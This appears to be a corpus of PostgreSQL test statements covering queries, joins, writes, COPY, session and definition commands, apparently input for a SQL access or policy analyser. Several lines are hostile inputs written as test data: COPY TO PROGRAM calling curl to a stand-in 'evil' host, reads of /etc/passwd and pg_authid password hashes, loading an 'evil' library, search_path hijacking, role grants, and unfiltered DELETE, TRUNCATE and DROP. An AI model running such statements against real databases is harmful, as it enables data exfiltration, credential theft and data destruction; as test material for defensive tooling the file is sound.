-- bare columns, aliases, stars
SELECT id, email FROM customers
SELECT c.id AS key, c.email AS "E-Mail" FROM customers AS c
SELECT * FROM customers
SELECT o.*, c.name FROM orders o, customers c WHERE o.customer_id = c.id
SELECT public.customers.email FROM public.customers
SELECT label FROM app.customers
SELECT x, y FROM customers AS c(x, y)
SELECT c.x, c.email FROM customers AS c(x, y)
SELECT email FROM ONLY customers
TABLE customers
SELECT "Email Address", "select" FROM "Odd Name"
SELECT ctid, tableoid, xmin FROM orders
SELECT 1, 'x', NULL, $1, current_user, now()
-- expressions
SELECT lower(email), upper(name) FROM customers
SELECT email || name FROM customers
SELECT email::text, email::varchar, phone::text, phone::varchar FROM customers
SELECT CASE WHEN email = 'a' THEN 1 ELSE 0 END FROM customers
SELECT coalesce(phone, email, 'none') FROM customers
SELECT nullif(email, ''), greatest(email, name), least(id, 1) FROM customers
SELECT email IS NULL, email IS NOT DISTINCT FROM 'x' FROM customers
SELECT email COLLATE "C" FROM customers
SELECT (home).city, home FROM customers
SELECT tags[1], tags[1:2], extra -> 'a' ->> 'b' FROM customers
SELECT ARRAY[id, 1], ROW(id, email), (ROW(id, email)).f2 FROM customers
SELECT name LIKE 'a%', name BETWEEN 'a' AND 'b', id IN (1, 2), name ~ 'x' FROM customers
SELECT extract(year FROM created_at), position('a' in email), substring(email from 1 for 2), overlay(name placing 'x' from 1) FROM customers
SELECT xmlelement(name a, c.email), xmlforest(c.id, c.name AS n), xmlserialize(content xmlelement(name b, ssn) AS text) FROM customers c, hr.employees
SELECT json_object('a': email), json_array(id, name), json_array(SELECT ssn FROM hr.employees) FROM customers
SELECT JSON_VALUE(extra, '$.a'), JSON_EXISTS(extra, '$.b'), extra IS JSON OBJECT FROM customers
SELECT date '2020-01-01', interval '1 day', 'sad'::mood, regclass 'public.customers'
SELECT -id, +id, id + 1, id * total FROM orders
-- whole rows
SELECT c FROM customers c
SELECT (c).email, (c).* FROM customers c
SELECT email(c), c.email FROM customers c
SELECT name(c) FROM customers c
SELECT c.greeting, greeting(c) FROM customers c
SELECT row_to_json(c) FROM customers c
SELECT c.*::text FROM customers c
SELECT to_jsonb(c) ->> 'email' FROM customers c
SELECT s.c FROM (SELECT c FROM customers c) s
SELECT (s.c).email FROM (SELECT c FROM customers c) s
SELECT (s).x FROM (SELECT email AS x FROM customers) s
SELECT count(c), count(c.*) FROM customers c
SELECT whole, id FROM v_row
SELECT (whole).email FROM v_row
-- joins
SELECT c.email, o.total FROM customers c JOIN orders o ON o.customer_id = c.id
SELECT c.email, o.total FROM customers c LEFT JOIN orders o ON o.customer_id = c.id AND o.status = 'x'
SELECT id, c.name FROM customers c JOIN hr.employees e USING (id)
SELECT * FROM customers c JOIN hr.employees e USING (id, email)
SELECT email FROM customers NATURAL JOIN hr.employees
SELECT * FROM customers c FULL JOIN hr.employees e USING (email)
SELECT id, email FROM customers c RIGHT JOIN hr.employees e USING (id, email)
SELECT j.email FROM (customers c JOIN orders o ON o.customer_id = c.id) AS j(a, b, email)
SELECT u.id FROM customers c JOIN hr.employees e USING (id) AS u
SELECT a.id, b.id, d.id FROM orders a JOIN orders b ON a.id = b.id CROSS JOIN orders d
SELECT c.id FROM customers c JOIN (orders o JOIN order_items i ON i.order_id = o.id) ON o.customer_id = c.id
-- sub-selects
SELECT x FROM (SELECT email AS x, phone FROM customers) s
SELECT x FROM (SELECT email, phone FROM customers) s(x)
SELECT name, (SELECT max(salary) FROM hr.employees) FROM customers
SELECT (SELECT e.ssn FROM hr.employees e WHERE e.id = c.id) FROM customers c
SELECT name FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)
SELECT EXISTS (SELECT FROM hr.employees WHERE ssn = '1')
SELECT name FROM customers WHERE id IN (SELECT customer_id FROM orders)
SELECT name FROM customers WHERE id = ANY (ARRAY[1, 2]) AND email = ANY ($1)
SELECT ARRAY(SELECT ssn FROM hr.employees)
SELECT c.name, l.total FROM customers c, LATERAL (SELECT o.total FROM orders o WHERE o.customer_id = c.id) l
SELECT c.name, l.* FROM customers c LEFT JOIN LATERAL (SELECT c.email AS e, o.total FROM orders o) l ON true
SELECT name FROM customers WHERE id IN (SELECT x FROM customers d, (SELECT id AS x) s)
SELECT n FROM (SELECT count(*) AS n FROM customers WHERE email = 'x') s
SELECT 1 FROM (SELECT 1 / length(ssn) AS boom FROM hr.employees OFFSET 0) s
SELECT (SELECT (SELECT email FROM customers LIMIT 1))
SELECT a.v FROM (VALUES (1, 'x'), (2, 'y')) AS a(k, v)
VALUES (1, (SELECT ssn FROM hr.employees)), (2, 'x')
-- grouping, ordering, windows, distinct
SELECT city, count(*), max(email) FROM customers GROUP BY city HAVING count(phone) > 1 ORDER BY 2
SELECT email AS e FROM customers ORDER BY e
SELECT name AS email FROM customers ORDER BY email
SELECT name AS email FROM customers GROUP BY email, name
SELECT name FROM customers ORDER BY lower(email) DESC NULLS LAST
SELECT DISTINCT city, email FROM customers
SELECT DISTINCT ON (email) name FROM customers ORDER BY email, id
SELECT city, email, count(*) FROM customers GROUP BY GROUPING SETS ((city), (email), ()), ROLLUP (name)
SELECT city, grouping(city) FROM customers GROUP BY CUBE (city, phone)
SELECT name, row_number() OVER (PARTITION BY city ORDER BY email) FROM customers
SELECT sum(total) OVER w, lag(status) OVER (w ROWS 2 PRECEDING) FROM orders WINDOW w AS (PARTITION BY customer_id ORDER BY placed_at)
SELECT string_agg(email, ',' ORDER BY name) FILTER (WHERE city = 'x') FROM customers
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY salary) FROM hr.employees
SELECT count(*), count(DISTINCT email), count(*) + 1, max(email) || name FROM customers GROUP BY name
SELECT array_agg(c) FROM customers c
SELECT name FROM customers LIMIT 5 OFFSET 10
SELECT name FROM customers ORDER BY id FETCH FIRST 3 ROWS WITH TIES
SELECT name FROM customers LIMIT (SELECT max(salary)::int FROM hr.employees)
SELECT id FROM customers FOR UPDATE
SELECT c.id FROM customers c, orders o FOR SHARE OF o SKIP LOCKED
-- set operations
SELECT email FROM customers UNION SELECT ssn FROM hr.employees
SELECT email FROM customers UNION ALL SELECT 'x' ORDER BY email LIMIT 4
SELECT email, 1 FROM customers EXCEPT SELECT ssn, id FROM hr.employees
SELECT email FROM customers INTERSECT SELECT email FROM hr.employees
SELECT e FROM (SELECT email AS e FROM customers UNION ALL SELECT email FROM hr.employees) s WHERE e LIKE 'a%'
(SELECT name FROM customers ORDER BY email LIMIT 1) UNION ALL (SELECT title FROM hr.employees)
SELECT 1 UNION SELECT 2 UNION ALL SELECT id FROM orders
-- common table expressions
WITH x AS (SELECT email FROM customers) SELECT * FROM x
WITH x(a) AS MATERIALIZED (SELECT email FROM customers), y AS (SELECT a FROM x) SELECT y.a, x.a FROM y, x
WITH customers AS (SELECT id FROM customers) SELECT * FROM customers
WITH customers AS (SELECT 1 AS id) SELECT * FROM public.customers
WITH RECURSIVE t(id, boss, path) AS (SELECT id, manager_id, ssn FROM hr.employees WHERE id = 1 UNION ALL SELECT e.id, e.manager_id, t.path || e.name FROM hr.employees e JOIN t ON e.manager_id = t.id) SELECT id, path FROM t
WITH RECURSIVE n(a, b) AS (SELECT name, email FROM customers UNION ALL SELECT b, a FROM n) SELECT a FROM n
WITH RECURSIVE c AS (SELECT 1 AS i UNION SELECT i + 1 FROM c WHERE i < 5) SELECT i FROM c
WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT email FROM customers) SELECT * FROM a
WITH RECURSIVE t AS (SELECT id, name FROM customers UNION ALL SELECT id, name FROM t) SEARCH DEPTH FIRST BY id SET ordered CYCLE id SET looped USING way SELECT * FROM t
WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT total FROM d
WITH i AS (INSERT INTO app.log (note) SELECT ssn FROM hr.employees RETURNING note, id) SELECT note FROM i
WITH u AS (UPDATE customers SET name = 'x' RETURNING email) INSERT INTO app.log (note) SELECT email FROM u
SELECT (WITH q AS (SELECT ssn FROM hr.employees) SELECT ssn FROM q LIMIT 1)
-- functions
SELECT peek(1)
SELECT lower(name), lower(feeling) FROM stamped, people
SELECT feeling === 'x', note = 'x' FROM stamped
SELECT * FROM find(1)
SELECT f.email FROM find(1) f
SELECT * FROM pairs(1)
SELECT b FROM pairs(1) AS p(x, b)
SELECT * FROM generate_series(1, 3) AS g
SELECT g FROM generate_series(1, (SELECT max(id) FROM customers)) g
SELECT u.x, u.n FROM customers c, unnest(c.tags) WITH ORDINALITY AS u(x, n)
SELECT * FROM unnest(ARRAY[1, 2], ARRAY['a', 'b']) AS t(a, b)
SELECT * FROM customers c, jsonb_each_text(c.extra)
SELECT k.value FROM customers c, jsonb_array_elements(c.extra) k
SELECT * FROM jsonb_to_record('{"a":1}') AS r(a int, b text)
SELECT * FROM ROWS FROM (generate_series(1, 2), pairs(1)) AS t(a, b, c)
SELECT * FROM jsonb_populate_record(NULL::customers, '{"id": 1}')
SELECT x.* FROM customers c, XMLTABLE('/r' PASSING (c.name::xml) COLUMNS a text PATH 'a', n FOR ORDINALITY) x
SELECT jt.* FROM customers c, JSON_TABLE(c.extra, '$' COLUMNS (a int PATH '$.a', NESTED PATH '$.b' COLUMNS (d text PATH '$.d'))) jt
SELECT query_to_xml('select ssn from hr.employees', true, true, '')
SELECT pg_read_file('/etc/passwd'), pg_ls_dir('.')
SELECT lo_import('/etc/passwd'), lo_get(1)
SELECT set_config('search_path', 'evil', false)
SELECT nextval('numbers'), setval('numbers', 5), currval('numbers')
SELECT pg_sleep(0), random(), gen_random_uuid(), clock_timestamp()
SELECT pg_terminate_backend(1)
SELECT no_such_function(email) FROM customers
SELECT * FROM no_such_table
SELECT no_such_column FROM customers
SELECT c.no_such_column FROM customers c
-- views and inheritance
SELECT * FROM v_customers
SELECT contact_lower FROM v_customers WHERE contact = 'x'
SELECT * FROM v_contacts
SELECT top, n FROM v_totals
SELECT name FROM v_union
SELECT ssn FROM m_employees
SELECT name FROM people
SELECT name, diagnosis FROM patients
SELECT payload FROM events
SELECT payload FROM events_2025
SELECT name FROM customers TABLESAMPLE system (10)
-- system catalogs
SELECT rolname, rolpassword FROM pg_authid
SELECT attname, null_frac, most_common_vals, histogram_bounds FROM pg_stats
SELECT relname, relkind FROM pg_class WHERE relname = 'customers'
SELECT usename, query FROM pg_stat_activity
SELECT table_name, column_name FROM information_schema.columns
SELECT name, setting FROM pg_settings
-- insert
INSERT INTO customers (name, email) VALUES ('a', 'b'), ('c', $1)
INSERT INTO customers VALUES (1, 'a')
INSERT INTO app.log (note) SELECT ssn FROM hr.employees
INSERT INTO app.log (note) SELECT ssn FROM hr.employees RETURNING note, at
INSERT INTO app.log DEFAULT VALUES RETURNING *
INSERT INTO customers AS c (id, name, email) VALUES (1, 'a', 'b') ON CONFLICT (email) DO UPDATE SET name = excluded.name || c.name WHERE c.city = 'x' RETURNING c.email
INSERT INTO people (id, name) SELECT id, email FROM customers ON CONFLICT (id) DO UPDATE SET name = excluded.name
INSERT INTO people VALUES (1, 'x') ON CONFLICT DO NOTHING
INSERT INTO stamped (id, note) VALUES (1, 'x')
INSERT INTO v_customers (id, name, contact) VALUES (9, 'x', 'y')
-- update
UPDATE customers SET name = 'x'
UPDATE customers SET name = 'x' WHERE id = 1
UPDATE customers SET name = email WHERE id IN (1, 2, 3)
UPDATE customers c SET name = e.ssn FROM hr.employees e WHERE e.id = c.id
UPDATE customers SET (name, city) = (SELECT ssn, title FROM hr.employees WHERE id = 1) WHERE id = $1 RETURNING name, city, id
UPDATE customers SET (name, city) = (email, DEFAULT), tags[1] = phone WHERE email = 'x'
UPDATE customers SET name = 'x' WHERE email = 'a@b'
UPDATE customers SET name = 'x' WHERE id > 1
UPDATE customers SET name = 'x' WHERE id = 1 OR true
UPDATE customers SET name = 'x' WHERE id = id
UPDATE customers SET name = 'x' WHERE id = (SELECT 1)
UPDATE customers SET name = 'x' WHERE id = ANY ('{1,2}'::int[]) AND city = 'y'
UPDATE orders SET status = 'x' WHERE customer_id = 1 AND placed_at = '2020-01-01'
UPDATE orders SET status = 'x' WHERE (customer_id, placed_at) = (1, $1::timestamptz)
UPDATE orders SET status = 'x' WHERE customer_id = 1
UPDATE order_items SET price = 1 WHERE (order_id, product_id) IN ((1, 2), (3, 4))
UPDATE people SET name = 'x' WHERE id = 1
UPDATE ONLY people SET name = 'x' WHERE id = 1
UPDATE events SET payload = 'x' WHERE id = 1 AND at = '2025-05-05'
UPDATE v_customers SET contact = 'x' WHERE id = 1
UPDATE orders SET total = total + 1 WHERE id = 1 RETURNING old.total, new.total, total
UPDATE orders o SET status = c.name FROM customers c WHERE o.id = 5 AND c.id = o.customer_id RETURNING o.status, c.email
UPDATE customers SET name = 'x' WHERE CURRENT OF cur
-- delete, truncate, merge
DELETE FROM orders
DELETE FROM orders WHERE id = 7
DELETE FROM orders o USING customers c WHERE o.customer_id = c.id AND c.email = 'x' RETURNING o.id, c.email
DELETE FROM customers WHERE id = 1
DELETE FROM ruled WHERE id = 1
DELETE FROM orders WHERE id = 1 AND EXISTS (SELECT 1 FROM hr.employees WHERE ssn = 'x')
WITH d AS (DELETE FROM orders RETURNING id) SELECT 1
TRUNCATE orders, order_items
TRUNCATE customers CASCADE
MERGE INTO people p USING customers c ON p.id = c.id WHEN MATCHED AND c.city = 'x' THEN UPDATE SET name = c.email WHEN NOT MATCHED THEN INSERT (id, name) VALUES (c.id, c.phone) RETURNING merge_action(), p.name
MERGE INTO people p USING customers c ON p.id = c.id WHEN MATCHED THEN DELETE
MERGE INTO people p USING (VALUES (1)) v(id) ON p.id = v.id WHEN NOT MATCHED THEN INSERT VALUES (v.id, 'x')
-- copy
COPY customers TO STDOUT
COPY customers (id, email) TO STDOUT (FORMAT csv)
COPY (SELECT ssn FROM hr.employees) TO STDOUT
COPY (DELETE FROM orders RETURNING id) TO STDOUT
COPY customers (name) FROM STDIN
COPY app.log (note) FROM STDIN WHERE id > 1
COPY customers TO PROGRAM 'curl evil'
COPY customers FROM '/tmp/x'
-- statements about statements
EXPLAIN SELECT email FROM customers WHERE phone = 'x'
EXPLAIN ANALYZE DELETE FROM orders
EXPLAIN (ANALYZE false, VERBOSE) DELETE FROM orders
EXPLAIN (ANALYZE) UPDATE orders SET status = 'x' WHERE id = 1
PREPARE p AS DELETE FROM orders WHERE id = $1; EXECUTE p(1)
PREPARE q(int) AS SELECT email FROM customers WHERE id = $1; EXPLAIN ANALYZE EXECUTE q(1); EXECUTE q(2); DEALLOCATE q; EXECUTE q(3)
EXECUTE unknown_statement(1)
DECLARE cur CURSOR FOR SELECT email FROM customers; FETCH 5 FROM cur; MOVE cur; CLOSE cur
FETCH ALL FROM unknown_cursor
CREATE TABLE copy AS SELECT ssn FROM hr.employees
SELECT ssn INTO TEMP copy FROM hr.employees
CREATE MATERIALIZED VIEW mv AS SELECT email FROM customers
-- session and transaction
BEGIN; SAVEPOINT a; ROLLBACK TO a; RELEASE a; COMMIT
START TRANSACTION READ ONLY; ROLLBACK; PREPARE TRANSACTION 'x'; COMMIT PREPARED 'x'
SET search_path TO app, public; SELECT * FROM customers
SET search_path TO 'app, public'; SELECT * FROM customers
SET LOCAL statement_timeout = '1s'
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
SET ROLE admin; SELECT * FROM customers
SET SESSION AUTHORIZATION DEFAULT; RESET ALL; RESET search_path; SET TIME ZONE 'UTC'
SHOW search_path; SHOW ALL
DISCARD ALL; DISCARD TEMP
LISTEN x; NOTIFY x, 'payload'; UNLISTEN *; SET CONSTRAINTS ALL DEFERRED; LOCK TABLE customers IN SHARE MODE
DEALLOCATE ALL
-- code, definitions, rights, maintenance
DO $$ BEGIN DELETE FROM orders; END $$
CALL cleanup()
LOAD 'evil'
CREATE TABLE t (id int PRIMARY KEY, c int REFERENCES customers, x text DEFAULT peek(1))
CREATE TEMP TABLE customers (id int); SELECT * FROM customers
CREATE VIEW nv AS SELECT email FROM customers
CREATE INDEX ON customers (lower(email)) WHERE phone IS NOT NULL
CREATE INDEX ON customers (peek(id))
ALTER TABLE customers ADD COLUMN x text, ALTER COLUMN name TYPE text USING lower(email)
ALTER TABLE customers RENAME TO clients; SELECT * FROM clients
DROP TABLE customers, orders CASCADE
DROP FUNCTION peek(int)
COMMENT ON COLUMN customers.email IS 'x'
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'
CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil', 'f'
CREATE RULE r AS ON INSERT TO people DO ALSO INSERT INTO app.log (note) SELECT ssn FROM hr.employees
CREATE TRIGGER t AFTER INSERT ON people EXECUTE FUNCTION stamp()
CREATE EXTENSION dblink
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
ALTER SYSTEM SET archive_command = 'evil'
GRANT SELECT ON customers TO PUBLIC
REVOKE ALL ON ALL TABLES IN SCHEMA public FROM x
GRANT admin TO agent
CREATE ROLE x PASSWORD 'y'
ALTER ROLE x SET search_path = evil
VACUUM FULL customers
ANALYZE customers
REINDEX TABLE customers; CLUSTER customers; CHECKPOINT; REFRESH MATERIALIZED VIEW m_employees
